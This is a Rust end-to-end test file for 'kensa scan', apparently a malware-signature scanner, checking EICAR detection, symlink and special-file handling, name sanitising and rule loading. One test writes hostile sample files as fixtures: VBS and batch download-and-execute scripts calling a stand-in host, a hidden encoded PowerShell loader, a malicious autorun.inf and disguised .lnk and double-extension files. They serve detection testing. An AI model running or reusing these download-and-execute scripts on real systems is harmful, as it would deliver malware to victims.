//! End-to-end tests of `kensa scan` on trees built at test time.

use crate::support;

use std::os::unix::fs::symlink;
use std::time::{Duration, Instant};
use support::*;

#[test]
fn eicar_is_found_with_its_sha256_and_exit_1() {
    let env = TestEnv::new();
    env.file("docs/readme.txt", b"nothing to see\n");
    env.file("payload/eicar.com", &eicar());
    let (code, recs) = env.scan_json(&[]);
    assert_eq!(code, 1);
    let findings = of_type(&recs, "finding");
    assert_lines(&["payload/eicar.com"], &rel_paths(&findings, &env.root));
    let f = findings[0];
    assert_eq!(f["sha256"], EICAR_SHA256);
    assert_eq!(f["size"], 68);
    assert_eq!(f["v"], 1);
    assert_eq!(f["verdict"], "malicious");
    assert_eq!(rules_of(f), vec!["EICAR test file", "EICAR_Test_File"]);
    let yara = f["matches"]
        .as_array()
        .unwrap()
        .iter()
        .find(|m| m["kind"] == "yara")
        .unwrap();
    assert_eq!(yara["namespace"], "kensa");
    assert_eq!(yara["meta"]["author"], "kensa");
    // session first, summary last
    assert_eq!(recs.first().unwrap()["type"], "session");
    let summary = recs.last().unwrap();
    assert_eq!(summary["type"], "summary");
    assert_eq!(summary["files"], 2);
    assert_eq!(summary["findings"], 1);
    assert_eq!(summary["completed"], true);
    let session = &recs[0];
    assert!(session["ruleset"]["digest"].as_str().unwrap().len() == 64);
    assert!(session["ruleset"]["rules"].as_u64().unwrap() >= 8);
}

#[test]
fn clean_tree_exits_0() {
    let env = TestEnv::new();
    env.file("a.txt", b"hello");
    env.file("sub/b.bin", &[0u8; 4096]);
    env.file("sub/deeper/c.js", b"console.log('hi');\n");
    let (code, recs) = env.scan_json(&[]);
    assert_eq!(code, 0, "{recs:?}");
    assert!(of_type(&recs, "finding").is_empty());
    assert!(of_type(&recs, "skip").is_empty());
    assert_eq!(recs.last().unwrap()["files"], 3);
}

#[test]
fn text_output_has_finding_line_and_totals() {
    let env = TestEnv::new();
    env.file("x/eicar.txt", &eicar());
    let out = env.run([std::ffi::OsStr::new("scan"), env.root.as_os_str()]);
    assert_eq!(out.status.code(), Some(1));
    let text = String::from_utf8(out.stdout).unwrap();
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines.len(), 2, "{text}");
    assert!(lines[0].starts_with("MALICIOUS "), "{text}");
    assert!(lines[0].contains("eicar.txt") && lines[0].contains(EICAR_SHA256));
    assert!(
        lines[1].starts_with("INFECTED  1 finding in 1 file ("),
        "{text}"
    );
}

#[test]
fn fifo_is_skipped_not_opened() {
    let env = TestEnv::new();
    env.file("ok.txt", b"fine");
    let fifo = env.root.join("pipe");
    let c = std::ffi::CString::new(fifo.as_os_str().as_encoded_bytes()).unwrap();
    // SAFETY: a valid C string naming a new FIFO in a temp dir.
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o644) }, 0);
    let t = Instant::now();
    let (code, recs) = env.scan_json(&[]);
    assert!(
        t.elapsed() < Duration::from_secs(30),
        "a FIFO must never block the scan"
    );
    assert_eq!(code, 0, "special files are skipped by design: {recs:?}");
    let skips = of_type(&recs, "skip");
    assert_eq!(skips.len(), 1);
    assert_eq!(skips[0]["reason"], "special_file");
    assert_eq!(skips[0]["gap"], false);
    assert!(skips[0]["detail"].as_str().unwrap().contains("FIFO"));
}

#[test]
fn symlink_loops_are_recorded_and_not_followed() {
    let env = TestEnv::new();
    env.file("dir/real.txt", b"x");
    symlink("loop_b", env.root.join("loop_a")).unwrap();
    symlink("loop_a", env.root.join("loop_b")).unwrap();
    symlink("..", env.root.join("dir/up")).unwrap();
    symlink("/etc/passwd", env.root.join("outside")).unwrap();
    let t = Instant::now();
    let (code, recs) = env.scan_json(&[]);
    assert!(t.elapsed() < Duration::from_secs(30));
    assert_eq!(code, 0);
    let skips = of_type(&recs, "skip");
    assert_lines(
        &["dir/up", "loop_a", "loop_b", "outside"],
        &rel_paths(&skips, &env.root),
    );
    assert!(skips
        .iter()
        .all(|s| s["reason"] == "symlink" && s["gap"] == false));
    assert_eq!(recs.last().unwrap()["files"], 1, "only real.txt is read");
}

#[test]
fn device_node_is_skipped() {
    let env = TestEnv::new();
    env.file("ok.txt", b"fine");
    // A character device inside the tree when we may create one (root, as
    // in CI); /dev/null named directly works for anyone.
    let dev = env.root.join("null_dev");
    let c = std::ffi::CString::new(dev.as_os_str().as_encoded_bytes()).unwrap();
    // SAFETY: a valid C string naming a new node in a temp dir.
    let made = unsafe { libc::mknod(c.as_ptr(), libc::S_IFCHR | 0o666, libc::makedev(1, 3)) } == 0;
    let out = env.run([
        std::ffi::OsStr::new("scan"),
        std::ffi::OsStr::new("--format"),
        std::ffi::OsStr::new("json"),
        env.root.as_os_str(),
        std::ffi::OsStr::new("/dev/null"),
    ]);
    let recs = parse_lines(&out);
    assert_eq!(out.status.code(), Some(0));
    let skips = of_type(&recs, "skip");
    let mut expected = vec!["/dev/null".to_string()];
    if made {
        expected.push(format!("{}", dev.display()));
    }
    expected.sort();
    let mut got: Vec<String> = skips
        .iter()
        .map(|s| s["path"].as_str().unwrap().to_string())
        .collect();
    got.sort();
    assert_eq!(got, expected);
    assert!(skips.iter().all(|s| s["reason"] == "special_file"));
}

#[test]
fn non_utf8_name_is_scanned_and_recorded_unambiguously() {
    let env = TestEnv::new();
    env.file_bytes_name(b"bad\xff\xfename.com", &eicar());
    let (code, recs) = env.scan_json(&[]);
    assert_eq!(code, 1);
    let f = of_type(&recs, "finding");
    assert_lines(&["bad\\xFF\\xFEname.com"], &rel_paths(&f, &env.root));
}

/// Issue 11.11: a name with the bytes FF FE and a name with the literal
/// text `\xFF\xFE` must never print the same, in JSON or on a terminal.
#[test]
fn names_are_printed_injectively() {
    let env = TestEnv::new();
    env.file_bytes_name(b"n\xff\xfe.com", &eicar());
    env.file_bytes_name(b"n\\xFF\\xFE.com", &eicar());
    env.file_bytes_name(b"ctl\r\x1b[32mOK.com", &eicar());
    let (code, recs) = env.scan_json(&[]);
    assert_eq!(code, 1);
    let f = of_type(&recs, "finding");
    let mut got = rel_paths(&f, &env.root);
    got.sort();
    assert_lines(
        &[
            "ctl\\x0D\\x1B[32mOK.com",
            "n\\xFF\\xFE.com",
            "n\\\\xFF\\\\xFE.com",
        ],
        &got,
    );
    let out = env.run([std::ffi::OsStr::new("scan"), env.root.as_os_str()]);
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(text.contains("n\\xFF\\xFE.com"), "{text}");
    assert!(text.contains("n\\\\xFF\\\\xFE.com"), "{text}");
    assert!(!text.contains('\r') && !text.contains('\x1b'), "{text:?}");
}

#[test]
fn zero_byte_file_is_fully_checked() {
    let env = TestEnv::new();
    env.file("empty", b"");
    let (code, recs) = env.scan_json(&[]);
    assert_eq!(code, 0);
    let s = recs.last().unwrap();
    assert_eq!(s["files"], 1);
    assert_eq!(s["bytes"], 0);
    assert_eq!(s["skips"], 0);
}

#[test]
fn ten_thousand_small_files_in_bounded_time() {
    let env = TestEnv::new();
    for d in 0..100 {
        for f in 0..100 {
            env.file(
                format!("d{d:03}/f{f:03}.txt"),
                format!("file {d} {f}\n").as_bytes(),
            );
        }
    }
    env.file("d050/eicar.com", &eicar());
    let t = Instant::now();
    let (code, recs) = env.scan_json(&[]);
    let took = t.elapsed();
    assert!(took < Duration::from_secs(60), "took {took:?}");
    assert_eq!(code, 1);
    assert_eq!(recs.last().unwrap()["files"], 10_001);
    assert_eq!(of_type(&recs, "finding").len(), 1);
}

#[test]
fn escape_sequences_in_names_are_sanitised_for_terminals() {
    let env = TestEnv::new();
    env.file("evil\x1b[2J\x1b]0;pwned\x07name.com", &eicar());
    env.file("invoice\u{202E}fdp.scr", b"harmless");
    let out = env.run([
        std::ffi::OsStr::new("scan"),
        std::ffi::OsStr::new("--show-all-skips"),
        env.root.as_os_str(),
    ]);
    assert_eq!(out.status.code(), Some(1));
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(
        !text.contains('\x1b'),
        "raw ESC reached the terminal: {text:?}"
    );
    assert!(!text.contains('\x07'));
    assert!(!text.contains('\u{202E}'));
    assert!(
        text.contains("evil\\x1B[2J\\x1B]0;pwned\\x07name.com"),
        "{text}"
    );
    assert!(text.contains("invoice\\u{202E}fdp.scr"), "{text}");
}

#[test]
fn file_above_max_size_is_hashed_and_recorded_too_large() {
    let env = TestEnv::new();
    let big: Vec<u8> = (0..(3 << 20)).map(|i| (i % 251) as u8).collect();
    env.file("big.bin", &big);
    env.file("small.txt", b"small");
    let (code, recs) = env.scan_json(&["--max-file-size", "1M"]);
    assert_eq!(code, 2, "a file not fully checked gives exit 2");
    let skips = of_type(&recs, "skip");
    assert_eq!(skips.len(), 1);
    let s = skips[0];
    assert_eq!(s["reason"], "too_large");
    assert_eq!(s["gap"], true);
    assert_eq!(s["size"], 3 << 20);
    use sha2::Digest;
    assert_eq!(s["sha256"], hex::encode(sha2::Sha256::digest(&big)));
    assert_eq!(recs.last().unwrap()["bytes"], (3 << 20) + 5);
}

#[test]
fn hash_list_hit_on_a_too_large_file_is_still_a_finding() {
    let env = TestEnv::new();
    let rules = env.base().join("rules");
    std::fs::create_dir_all(&rules).unwrap();
    let big = vec![7u8; 2 << 20];
    use sha2::Digest;
    std::fs::write(
        rules.join("bad.hashes"),
        format!(
            "{};known bad blob\n",
            hex::encode(sha2::Sha256::digest(&big))
        ),
    )
    .unwrap();
    env.file("blob", &big);
    let (code, recs) =
        env.scan_json(&["--max-file-size", "1M", "--rules", rules.to_str().unwrap()]);
    assert_eq!(code, 1);
    let f = of_type(&recs, "finding");
    assert_eq!(rules_of(f[0]), vec!["known bad blob"]);
}

/// A minimal MS-SHLLINK file with string data (relative path, arguments).
fn lnk(relative_path: &str, args: &str) -> Vec<u8> {
    let mut b = Vec::new();
    b.extend_from_slice(&0x4Cu32.to_le_bytes());
    b.extend_from_slice(&[
        0x01, 0x14, 0x02, 0x00, 0x00, 0x00, 0x00, 0x00, 0xC0, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00,
        0x46,
    ]);
    let flags: u32 = 0x08 | 0x20 | 0x80; // HasRelativePath | HasArguments | IsUnicode
    b.extend_from_slice(&flags.to_le_bytes());
    b.extend_from_slice(&0x20u32.to_le_bytes()); // FILE_ATTRIBUTE_ARCHIVE
    b.extend_from_slice(&[0u8; 24]); // times
    b.extend_from_slice(&0u32.to_le_bytes()); // file size
    b.extend_from_slice(&0u32.to_le_bytes()); // icon index
    b.extend_from_slice(&1u32.to_le_bytes()); // SW_SHOWNORMAL
    b.extend_from_slice(&[0u8; 2 + 2 + 4 + 4]); // hotkey, reserved
    assert_eq!(b.len(), 76);
    for s in [relative_path, args] {
        let u: Vec<u16> = s.encode_utf16().collect();
        b.extend_from_slice(&(u.len() as u16).to_le_bytes());
        for c in u {
            b.extend_from_slice(&c.to_le_bytes());
        }
    }
    b.extend_from_slice(&0u32.to_le_bytes()); // terminal block
    b
}

#[test]
fn bundled_signatures_catch_usb_tricks_and_spare_lookalikes() {
    let env = TestEnv::new();
    // Should be found:
    env.file(
        "bad/autorun.inf",
        b"[AutoRun]\r\nopen=setup\\x.exe\r\nicon=x.ico\r\n",
    );
    env.file(
        "bad/Photos.lnk",
        &lnk(
            "..\\..\\Windows\\System32\\cmd.exe",
            "/c start \"\" _\\x.exe",
        ),
    );
    env.file("bad/Docs.lnk", &lnk(".\\\u{a0}\\secret.exe", ""));
    let mut pe = b"MZ".to_vec();
    pe.resize(0x40, 0);
    pe[0x3C] = 0x40;
    pe.extend_from_slice(b"PE\0\0");
    pe.resize(512, 0);
    env.file("bad/report.pdf.exe", &pe);
    env.file("bad/invoice.pdf", &pe);
    env.file("bad/photo\u{202E}gpj.scr", b"whatever");
    env.file(
        "bad/update.vbs",
        b"Set x = CreateObject(\"MSXML2.XMLHTTP\")\r\nx.Open \"GET\", \"http://h/p.exe\", False\r\nSet s = CreateObject(\"WScript.Shell\")\r\ns.Run \"p.exe\"\r\n",
    );
    env.file(
        "bad/run.ps1",
        b"powershell -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA\r\n",
    );
    env.file(
        "bad/dl.bat",
        b"@echo off\r\ncertutil -urlcache -split -f http://h/p.exe %TEMP%\\p.exe\r\nstart \"\" %TEMP%\\p.exe\r\n",
    );
    // Should not be found:
    env.file(
        "good/autorun.inf",
        b"[AutoRun]\r\nlabel=Plant backup\r\nicon=disk.ico\r\n",
    );
    env.file("good/notes.lnk.txt", b"cmd.exe /c start");
    env.file("good/Manual.lnk", &lnk("..\\docs\\manual.pdf", ""));
    env.file("good/report.pdf", b"%PDF-1.4\n");
    env.file("good/tool.exe", &pe);
    env.file(
        "good/install.ps1",
        b"Write-Host 'Installing'\r\nCopy-Item a b\r\n",
    );
    env.file(
        "good/readme.md",
        b"Use DownloadString and WScript.Shell carefully.\n",
    );
    let (code, recs) = env.scan_json(&[]);
    assert_eq!(code, 1);
    let found = of_type(&recs, "finding");
    let got: Vec<String> = {
        let mut v: Vec<String> = found
            .iter()
            .map(|f| {
                let p = f["path"].as_str().unwrap();
                let rel = p.rsplit_once("/tree/").unwrap().1;
                format!("{rel} {}", rules_of(f).join(","))
            })
            .collect();
        v.sort();
        v
    };
    assert_lines(
        &[
            "bad/Docs.lnk Lnk_Targets_Hidden_Folder",
            "bad/Photos.lnk Lnk_Starts_Interpreter,Lnk_Targets_Hidden_Folder",
            "bad/autorun.inf Autorun_Inf_Launches_Program",
            "bad/dl.bat Script_Download_And_Execute",
            "bad/invoice.pdf Exe_With_Document_Extension",
            "bad/photo\\u{202E}gpj.scr Name_With_Bidi_Override",
            "bad/report.pdf.exe Exe_Double_Extension",
            "bad/run.ps1 Script_Obfuscated_Loader",
            "bad/update.vbs Script_Download_And_Execute",
        ],
        &got,
    );
}

#[test]
fn rule_using_filename_external_matches_by_name() {
    let env = TestEnv::new();
    let rule = env.base().join("names.yar");
    std::fs::write(
        &rule,
        "rule Named_Payload { condition: filename == \"payload.bin\" and extension == \".bin\" and filepath endswith \"/payload.bin\" }\n\
         rule Typed { condition: filetype == \"ELF\" and owner != \"\" }\n",
    )
    .unwrap();
    env.file("a/payload.bin", b"anything");
    env.file("a/other.bin", b"anything");
    env.file("a/prog", b"\x7fELF\x02\x01\x01");
    let (code, recs) = env.scan_json(&["--rules", rule.to_str().unwrap()]);
    assert_eq!(code, 1);
    let f = of_type(&recs, "finding");
    assert_lines(&["a/payload.bin", "a/prog"], &rel_paths(&f, &env.root));
    assert_eq!(
        f.iter()
            .find(|x| x["path"].as_str().unwrap().ends_with("payload.bin"))
            .unwrap()["matches"][0]["namespace"],
        "names"
    );
}

#[test]
fn broken_rule_file_is_isolated_and_strict_fails() {
    let env = TestEnv::new();
    let dir = env.base().join("set");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(
        dir.join("a_uses_b.yar"),
        "rule Uses_Base { condition: Base_Rule }\n",
    )
    .unwrap();
    std::fs::write(
        dir.join("b_base.yar"),
        "rule Base_Rule { strings: $m = \"MAGIC-MARKER\" condition: $m }\n",
    )
    .unwrap();
    std::fs::write(
        dir.join("c_broken.yar"),
        "rule Broken {\n  condition:\n    nonsense_identifier\n}\n",
    )
    .unwrap();
    env.file("hit.dat", b"xx MAGIC-MARKER xx");
    let (code, recs) = env.scan_json(&["--rules", dir.to_str().unwrap()]);
    assert_eq!(code, 1, "the good files of the set still load");
    let f = of_type(&recs, "finding");
    assert_eq!(rules_of(f[0]), vec!["Base_Rule", "Uses_Base"]);

    let out = env.run([
        std::ffi::OsStr::new("scan"),
        std::ffi::OsStr::new("--strict"),
        std::ffi::OsStr::new("--rules"),
        dir.as_os_str(),
        env.root.as_os_str(),
    ]);
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("c_broken.yar:3"), "file and line named: {err}");
}

#[test]
fn bad_config_names_file_and_line() {
    let env = TestEnv::new();
    std::fs::write(
        &env.config,
        "[scan]\nthreads = 2\nmax_file_size = \"ten\"\n",
    )
    .unwrap();
    let out = env.run([std::ffi::OsStr::new("scan"), env.root.as_os_str()]);
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("kensa.toml:3"), "{err}");
    assert!(err.contains("invalid size"), "{err}");
}

#[test]
fn a_missing_path_is_an_error_naming_it() {
    let env = TestEnv::new();
    env.file("a.txt", b"x");
    let missing = env.root.join("does-not-exist");
    let out = env.run([
        std::ffi::OsStr::new("scan"),
        std::ffi::OsStr::new("--format"),
        std::ffi::OsStr::new("json"),
        env.root.as_os_str(),
        missing.as_os_str(),
    ]);
    assert_eq!(out.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains(&format!("{}: no such file or directory", missing.display())),
        "{stderr}"
    );
    assert_eq!(
        stderr.matches("os error 2").count(),
        0,
        "the cause is said once, in words: {stderr}"
    );
    assert!(parse_lines(&out).is_empty(), "nothing was scanned");
    let out = env.run(["scan".as_ref(), "--json".as_ref(), env.root.as_os_str()]);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("--format json"),
        "--json suggests --format json"
    );
}

#[test]
fn unreadable_file_is_a_permission_gap() {
    use std::os::unix::fs::PermissionsExt;
    use std::os::unix::process::CommandExt;
    let env = TestEnv::new();
    env.file("readable", b"x");
    let p = env.file("secret", b"x");
    std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o000)).unwrap();
    for d in [env.base(), env.root.as_path(), env.state.as_path()] {
        std::fs::set_permissions(d, std::fs::Permissions::from_mode(0o777)).unwrap();
    }
    let mut cmd = env.command();
    cmd.args(["scan", "--format", "json"]).arg(&env.root);
    // SAFETY: geteuid has no preconditions.
    if unsafe { libc::geteuid() } == 0 {
        // root reads everything: drop to nobody so the permission check is real.
        // SAFETY: the closure only calls async-signal-safe setuid/setgid.
        unsafe {
            cmd.pre_exec(|| {
                if libc::setgid(65534) != 0 || libc::setuid(65534) != 0 {
                    return Err(std::io::Error::last_os_error());
                }
                Ok(())
            });
        }
    }
    let out = cmd.output().unwrap();
    let recs = parse_lines(&out);
    assert_eq!(out.status.code(), Some(2), "{recs:?}");
    let skips = of_type(&recs, "skip");
    assert_lines(&["secret"], &rel_paths(&skips, &env.root));
    assert_eq!(skips[0]["reason"], "permission");
    assert_eq!(recs.last().unwrap()["files"], 2);
}

#[test]
fn large_files_share_a_small_memory_budget_without_stalling() {
    let env = TestEnv::new();
    let mut cfg = std::fs::read_to_string(&env.config).unwrap();
    cfg.push_str("\n[scan]\nbuffer_budget = \"2M\"\nthreads = 3\n");
    std::fs::write(&env.config, cfg).unwrap();
    for i in 0..12 {
        let mut big = vec![b'A'; (3 << 20) + i];
        if i == 7 {
            big[..68].copy_from_slice(&eicar());
            big.truncate(68);
        }
        env.file(format!("big{i:02}.bin"), &big);
        env.file(format!("small{i:02}.txt"), b"small");
    }
    let mut child = env
        .command()
        .args(["scan", "--format", "json"])
        .arg(&env.root)
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let t = Instant::now();
    loop {
        if child.try_wait().unwrap().is_some() {
            break;
        }
        if t.elapsed() > Duration::from_secs(60) {
            let _ = child.kill();
            panic!("the scan stalled waiting for memory");
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    let out = child.wait_with_output().unwrap();
    let recs = parse_lines(&out);
    assert_eq!(out.status.code(), Some(1));
    let s = recs.last().unwrap();
    assert_eq!(s["files"], 24);
    assert_eq!(s["gaps"], 0);
    assert_eq!(of_type(&recs, "finding").len(), 1);
}

#[test]
fn an_absurd_thread_count_is_a_clear_error_not_an_abort() {
    let env = TestEnv::new();
    env.file("a.txt", b"hello");
    for args in [["-j", "100000"], ["--threads", "257"]] {
        let out = env.run([
            "scan".as_ref(),
            args[0].as_ref(),
            args[1].as_ref(),
            env.root.as_os_str(),
        ]);
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{stderr}");
        assert!(stderr.contains("at most 256 are allowed"), "{stderr}");
    }
    let mut config = std::fs::read_to_string(&env.config).unwrap();
    config.push_str("[scan]\nthreads = 100000\n");
    std::fs::write(&env.config, config).unwrap();
    let out = env.run(["scan".as_ref(), env.root.as_os_str()]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("at most 256"));
    let out = env.run([
        "scan".as_ref(),
        "-j".as_ref(),
        "256".as_ref(),
        env.root.as_os_str(),
    ]);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

#[test]
fn a_named_path_that_is_a_symlink_is_followed_once() {
    let env = TestEnv::new();
    let real = env.base().join("real");
    std::fs::create_dir_all(real.join("d")).unwrap();
    std::fs::write(real.join("eicar.com"), eicar()).unwrap();
    std::fs::write(real.join("d/eicar2.com"), eicar()).unwrap();
    // A link met during the walk stays unfollowed.
    symlink(real.join("eicar.com"), real.join("d/inner-link")).unwrap();
    let file_link = env.base().join("file-link");
    let dir_link = env.base().join("dir-link");
    symlink(real.join("eicar.com"), &file_link).unwrap();
    symlink(&real, &dir_link).unwrap();
    for (link, findings) in [(&file_link, 1), (&dir_link, 2)] {
        let out = env.run([
            "scan".as_ref(),
            "--format".as_ref(),
            "json".as_ref(),
            link.as_os_str(),
        ]);
        let recs = parse_lines(&out);
        assert_eq!(out.status.code(), Some(1), "{recs:?}");
        assert_eq!(of_type(&recs, "finding").len(), findings, "{recs:?}");
        let skips = of_type(&recs, "skip");
        assert!(
            skips.iter().all(|s| s["reason"] == "symlink"),
            "only links inside are skipped: {skips:?}"
        );
    }
}

#[test]
fn rule_files_that_are_symlinks_are_reported_not_dropped() {
    let env = TestEnv::new();
    env.file("a.txt", b"needle-for-linked-rule");
    let outside = env.base().join("outside.yar");
    std::fs::write(
        &outside,
        "rule linked { strings: $a = \"needle-for-linked-rule\" condition: $a }\n",
    )
    .unwrap();
    let rules = env.base().join("rules");
    std::fs::create_dir_all(&rules).unwrap();
    std::fs::write(rules.join("good.yar"), "rule good { condition: false }\n").unwrap();
    symlink(&outside, rules.join("link.yar")).unwrap();

    let out = env.run(["rules".as_ref(), "check".as_ref(), rules.as_os_str()]);
    let text = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(1), "{text}");
    assert!(
        text.contains("FAILED") && text.contains("link.yar"),
        "{text}"
    );
    assert!(text.contains("symbolic link"), "{text}");

    let scan = |extra: &[&str]| {
        let mut args = vec!["scan", "--format", "json", "--rules"];
        args.extend(extra);
        let mut cmd = env.command();
        cmd.args(&args[..4])
            .arg(&rules)
            .args(&args[4..])
            .arg(&env.root);
        cmd.output().unwrap()
    };
    let out = scan(&["--strict"]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(
        stderr.contains("link.yar"),
        "--strict names the file: {stderr}"
    );
    let out = scan(&[]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("1 rule file(s) failed"),
        "the set shrinks visibly: {stderr}"
    );
    assert!(of_type(&parse_lines(&out), "finding").is_empty());
}

#[test]
fn a_directory_with_too_many_entries_is_a_bounded_gap() {
    let env = TestEnv::new();
    for i in 0..15 {
        env.file(format!("big/f{i:02}.txt"), b"x");
    }
    env.file("small/a.txt", b"x");
    let mut config = std::fs::read_to_string(&env.config).unwrap();
    config.push_str("[scan]\nmax_dir_entries = 10\n");
    std::fs::write(&env.config, config).unwrap();
    let (code, recs) = env.scan_json(&[]);
    assert_eq!(code, 2, "{recs:?}");
    let skips = of_type(&recs, "skip");
    assert_eq!(skips.len(), 1, "{skips:?}");
    assert_eq!(skips[0]["reason"], "too_many_entries");
    assert_eq!(skips[0]["gap"], true);
    assert!(skips[0]["path"].as_str().unwrap().ends_with("/big"));
    // Ten of the big directory's files, and the other directory whole.
    assert_eq!(recs.last().unwrap()["files"], 11);
}
